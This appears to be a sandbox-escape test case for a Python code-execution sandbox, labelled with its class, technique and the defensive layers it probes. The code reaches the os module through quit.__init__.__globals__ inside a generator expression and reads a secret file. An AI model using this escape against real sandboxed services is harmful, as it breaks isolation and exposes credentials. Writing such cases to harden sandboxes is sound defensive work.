# class: object graph walk
# technique: a forbidden attribute in a generator expression
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
g = next(quit.__init__.__globals__ for _ in 'x')
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
